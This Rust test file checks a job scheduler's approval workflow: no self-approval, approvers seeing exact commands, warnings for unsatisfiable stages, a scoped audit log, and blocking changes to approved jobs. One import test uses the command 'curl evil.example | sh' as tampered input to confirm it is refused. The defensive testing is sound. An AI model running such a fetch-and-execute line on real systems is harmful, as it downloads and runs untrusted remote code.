//! Approval integrity through the binary: nobody approves their own request (not even through
//! `--user`), an approval covers exactly the job definition the approvers saw, approvers see
//! what they approve, and the audit log shows each user only what they took part in.

use serde_json::Value;

use crate::harness::World;

const APPROVER_PERMS: [&str; 3] = [
    "extras.view_approvalworkflowstage",
    "extras.change_approvalworkflowstage",
    "extras.change_scheduledjob",
];

/// alice requests; bob and carol are the `leads` (one approval needed) of workflow `release`,
/// which applies to `deploy-*` jobs. The clock is 2030-01-01T00:00:00Z.
fn world() -> World {
    let w = World::new();
    w.users(&["alice", "bob", "carol"]);
    w.group("leads", &["bob", "carol"]);
    w.grant("group:leads", &APPROVER_PERMS);
    w.grant(
        "user:alice",
        &["extras.run_job", "extras.view_scheduledjob"],
    );
    w.job("deploy-web", "echo deployed");
    w.one_stage_workflow("release", Some("deploy-*"), "leads", "leads");
    w
}

/// `user` (through root's `--user`, or root itself for `None`) schedules `deploy-web` daily
/// at 01:00 UTC under `name`.
fn request_daily(w: &World, user: Option<&str>, name: &str) -> Value {
    let args = [
        "schedule",
        "deploy-web",
        "--interval",
        "daily",
        "--name",
        name,
        "--start-time",
        "2030-01-01T01:00:00Z",
    ];
    match user {
        Some(u) => w.json_as(u, &args),
        None => w.json(&args),
    }
}

fn stage_of(schedule: &Value) -> String {
    schedule["approval_workflow"]["stages"][0]["id"].to_string()
}

// ---------------------------------------------------------------------------------------
// 1. Self-approval through --user
// ---------------------------------------------------------------------------------------

#[test]
fn fault_root_approved_its_own_request_through_user() {
    let w = world();
    // root requests as itself, then acts as bob (a lead with every permission).
    let s = request_daily(&w, None, "nightly");
    let stage = stage_of(&s);
    for verb in ["approve", "deny"] {
        w.as_user("bob", &[verb, &stage])
            .code(3)
            .stderr_has("approval must come from another user");
    }
    assert_eq!(w.sql("SELECT COUNT(*) FROM responses"), "0");
    assert_eq!(
        w.json_as("bob", &["approvals", "pending"]),
        serde_json::json!([]),
        "root's own request is not pending for root acting as bob"
    );
    // bob may still comment: commenting decides nothing.
    w.as_user("bob", &["comment", &stage, "--comment", "who asked?"])
        .ok();
    assert_eq!(w.sql("SELECT state FROM workflows"), "pending");

    // alice's request is another matter: root acting as bob approves it.
    let s = request_daily(&w, Some("alice"), "nightly-alice");
    let stage = stage_of(&s);
    w.as_user("bob", &["approve", &stage]).ok();
    assert_eq!(
        w.sql(&format!(
            "SELECT state FROM workflows WHERE scheduled_job_id = {}",
            s["id"]
        )),
        "approved"
    );
}

// ---------------------------------------------------------------------------------------
// 3. Approvers see what they approve
// ---------------------------------------------------------------------------------------

#[test]
fn fault_approvers_could_not_see_the_command_or_variables_they_approve() {
    let w = world();
    w.run(&[
        "jobs",
        "add",
        "deploy-api",
        "--command",
        "./deploy.sh --target api",
        "--var",
        "env:string",
    ])
    .ok();
    let s = w.json_as(
        "alice",
        &[
            "schedule",
            "deploy-api",
            "--interval",
            "future",
            "--name",
            "api-once",
            "--start-time",
            "2030-01-01T01:00:00Z",
            "--var",
            "env=prod",
        ],
    );
    let stage = stage_of(&s);
    let shown = w.json_as("bob", &["approvals", "show", &stage]);
    assert_eq!(
        shown["scheduled_job"]["command"],
        "./deploy.sh --target api"
    );
    assert_eq!(shown["scheduled_job"]["variables"]["env"], "prod");
    let listed = w.json_as("bob", &["approvals", "pending"]);
    assert_eq!(
        listed[0]["scheduled_job"]["command"],
        "./deploy.sh --target api"
    );
    w.as_user("bob", &["approvals", "show", &stage])
        .ok()
        .stdout_has("./deploy.sh --target api")
        .stdout_has("env=prod");
    w.as_user("bob", &["approve", &stage])
        .ok()
        .stdout_has("./deploy.sh --target api")
        .stdout_has("env=prod");
}

// ---------------------------------------------------------------------------------------
// 4. A stage no group can satisfy is accepted, with a warning
// ---------------------------------------------------------------------------------------

#[test]
fn fault_a_stage_needing_more_approvers_than_its_group_has_was_accepted_silently() {
    let w = world();
    w.group("solo", &["bob"]);
    w.run(&["workflows", "add", "big", "--job", "big-*"]).ok();
    let stage = |name: &str, seq: &str, min: &str| {
        w.run(&[
            "workflows",
            "add-stage",
            "big",
            "--name",
            name,
            "--sequence",
            seq,
            "--min-approvers",
            min,
            "--group",
            "solo",
        ])
    };
    let r = stage("everyone", "1", "1000000").ok();
    assert!(
        r.stderr.contains(
            "warning: stage everyone needs 1000000 approver(s) but group solo has only 1 member(s)"
        ),
        "{}",
        r.stderr
    );
    // Still stored: groups change.
    let def = w.json(&["workflows", "show", "big"]);
    assert_eq!(def["stages"][0]["min_approvers"], 1_000_000);
    // Enough members: no warning.
    let r = stage("one", "2", "1").ok();
    assert!(!r.stderr.contains("warning"), "{}", r.stderr);
}

// ---------------------------------------------------------------------------------------
// 5. The audit log shows each user what they took part in
// ---------------------------------------------------------------------------------------

/// `(actor, action)` of every audit entry `user` sees (root for `None`).
fn audit_seen(w: &World, user: Option<&str>, extra: &[&str]) -> Vec<(String, String)> {
    let mut args = vec!["audit", "list"];
    args.extend_from_slice(extra);
    let list = match user {
        Some(u) => w.json_as(u, &args),
        None => w.json(&args),
    };
    list.as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["actor"].as_str().unwrap().to_string(),
                e["action"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn fault_audit_list_showed_everyone_every_comment_variable_and_command() {
    let w = world();
    let s = request_daily(&w, Some("alice"), "nightly");
    let stage = stage_of(&s);
    w.as_user(
        "bob",
        &["comment", &stage, "--comment", "the db password is hunter2"],
    )
    .ok();
    // carol took no part: she sees nothing, not even when she asks for bob's entries.
    assert_eq!(audit_seen(&w, Some("carol"), &[]), vec![]);
    assert_eq!(audit_seen(&w, Some("carol"), &["--actor", "bob"]), vec![]);
    // alice and bob see their own entries only.
    for (user, action) in [("alice", "schedule.create"), ("bob", "stage.comment")] {
        let seen = audit_seen(&w, Some(user), &[]);
        assert!(
            seen.contains(&(user.to_string(), action.to_string())),
            "{seen:?}"
        );
        assert!(seen.iter().all(|(actor, _)| actor == user), "{seen:?}");
    }
    let human = w.as_user("alice", &["audit", "list"]).ok();
    assert!(!human.stdout.contains("hunter2"), "{}", human.stdout);
    // Admins see everything.
    let all = audit_seen(&w, None, &[]);
    assert!(all.contains(&("bob".to_string(), "stage.comment".to_string())));
    assert!(all.contains(&("root".to_string(), "job.add".to_string())));
}

#[test]
fn fault_audit_list_accepted_limit_zero() {
    let w = world();
    for bad in ["--limit=0", "--limit=-3"] {
        w.run(&["audit", "list", bad])
            .code(2)
            .stderr_has("--limit must be at least 1");
    }
    w.run(&["audit", "list", "--limit", "1"]).ok();
}

// ---------------------------------------------------------------------------------------
// 2. An approval covers the job definition its approvers saw
// ---------------------------------------------------------------------------------------

/// Writes a `jobs import` file holding `deploy-web` with `command` (and `extra` JSON fields).
fn jobs_file(w: &World, command: &str, extra: &str) -> String {
    let path = w.path("jobs.json");
    let extra = if extra.is_empty() {
        String::new()
    } else {
        format!(", {extra}")
    };
    std::fs::write(
        &path,
        format!(r#"[{{"name": "deploy-web", "command": "{command}"{extra}}}]"#),
    )
    .unwrap();
    path.display().to_string()
}

/// Runs due jobs at 01:00 UTC (when the daily requests are due): the results' count.
fn run_due_at_one(w: &mut World) -> String {
    w.at("2030-01-01T01:00:00Z");
    w.run(&["run-due"]).ok();
    w.sql("SELECT COUNT(*) FROM results")
}

#[test]
fn fault_an_import_changed_the_command_of_an_approved_schedule() {
    let mut w = world();
    let approved = request_daily(&w, Some("alice"), "nightly");
    w.as_user("bob", &["approve", &stage_of(&approved)]).ok();
    request_daily(&w, Some("alice"), "nightly-2"); // still pending approval

    // A changed command is refused, naming both requests; nothing changes.
    let file = jobs_file(&w, "curl evil.example | sh", "");
    w.run(&["jobs", "import", &file])
        .code(5)
        .stderr_has("scheduled job 1 \"nightly\" (approved)")
        .stderr_has("scheduled job 2 \"nightly-2\" (pending approval)")
        .stderr_has("--force");
    assert_eq!(
        w.sql("SELECT command FROM jobs WHERE name = 'deploy-web'"),
        "echo deployed"
    );
    // So are env, shell, stdin, run_as and variables.
    for extra in [
        r#""env": {"PATH": "/tmp"}"#,
        r#""shell": "/bin/bash""#,
        r#""stdin": "yes""#,
        r#""run_as": "nobody""#,
        r#""variables": [{"name": "env", "type": "string"}]"#,
    ] {
        let file = jobs_file(&w, "echo deployed", extra);
        w.run(&["jobs", "import", &file]).code(5);
    }
    // A no-op re-import, and a change that runs the same thing, are fine.
    let file = jobs_file(&w, "echo deployed", "");
    w.run(&["jobs", "import", &file]).ok();
    let file = jobs_file(
        &w,
        "echo deployed",
        r#""description": "ships the web tier""#,
    );
    let r = w.json(&["jobs", "import", &file]);
    assert_eq!(r[0]["outcome"], "updated");
    assert_eq!(
        w.sql("SELECT state FROM scheduled_jobs ORDER BY id"),
        "active\npending"
    );

    // --force changes it and cancels both requests, audited.
    let file = jobs_file(&w, "curl evil.example | sh", "");
    let r = w.json(&["jobs", "import", &file, "--force"]);
    assert_eq!(r[0]["canceled_schedules"], serde_json::json!([1, 2]));
    assert_eq!(
        w.sql("SELECT state FROM scheduled_jobs ORDER BY id"),
        "canceled\ncanceled"
    );
    assert_eq!(
        w.sql("SELECT state FROM workflows ORDER BY id"),
        "canceled\ncanceled"
    );
    assert_eq!(
        w.sql("SELECT COUNT(*) FROM audit WHERE action = 'workflow.cancel'"),
        "2"
    );
    assert_eq!(run_due_at_one(&mut w), "0", "nothing runs unapproved");
}

#[test]
fn fault_run_due_ran_an_approved_schedule_whose_job_changed_behind_its_back() {
    let mut w = world();
    let s = request_daily(&w, Some("alice"), "nightly");
    w.as_user("bob", &["approve", &stage_of(&s)]).ok();
    // Changed without jobctl's checks (a bug elsewhere, a hand edit).
    w.sql("UPDATE jobs SET command = 'echo not what was approved' WHERE name = 'deploy-web'");
    w.at("2030-01-01T01:00:00Z");
    w.run(&["run-due"])
        .ok()
        .stderr_has("changed since it was approved");
    assert_eq!(
        w.sql("SELECT COUNT(*) FROM results"),
        "0",
        "recorded nothing"
    );
    assert_eq!(
        w.sql("SELECT next_run FROM scheduled_jobs WHERE id = 1"),
        "1893459600",
        "not claimed"
    );
    // The approved definition back: it runs.
    w.sql("UPDATE jobs SET command = 'echo deployed' WHERE name = 'deploy-web'");
    assert_eq!(run_due_at_one(&mut w), "1");
}

#[test]
fn fault_import_crontab_changed_the_environment_of_a_job_awaiting_approval() {
    let w = world();
    w.one_stage_workflow("cron", Some("tab-*"), "leads", "leads");
    let tab = w.path("tab");
    std::fs::write(&tab, "FOO=1\n0 1 * * * echo hi\n").unwrap();
    let tab = tab.display().to_string();
    w.run(&["import-crontab", &tab]).ok();
    assert_eq!(w.sql("SELECT state FROM scheduled_jobs"), "pending");
    let env = w.sql("SELECT env FROM jobs WHERE name LIKE 'tab-%'");

    // The environment changes and a new entry appears: the new entry imports, the held one
    // is skipped with the reason, unchanged.
    std::fs::write(&tab, "FOO=2\n0 1 * * * echo hi\n\n30 2 * * * echo other\n").unwrap();
    let r = w.run(&["import-crontab", &tab, "--json"]).ok();
    let doc = r.json();
    let skipped = doc["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), 1, "{doc}");
    assert_eq!(skipped[0]["line"], 2);
    assert!(
        skipped[0]["reason"]
            .as_str()
            .unwrap()
            .contains("pending approval or approved"),
        "{doc}"
    );
    assert_eq!(
        w.sql("SELECT env FROM jobs WHERE name LIKE 'tab-%' AND command = 'echo hi'"),
        env
    );
    assert_eq!(
        w.sql("SELECT COUNT(*) FROM jobs WHERE command = 'echo other'"),
        "1"
    );
    // A time zone change is held back the same way.
    std::fs::write(&tab, "FOO=1\nCRON_TZ=Europe/Paris\n0 1 * * * echo hi\n").unwrap();
    let doc = w.run(&["import-crontab", &tab, "--json"]).ok().json();
    assert_eq!(doc["skipped"][0]["line"], 3, "{doc}");
    assert_eq!(
        w.sql("SELECT time_zone FROM scheduled_jobs WHERE id = 1"),
        "UTC"
    );
}
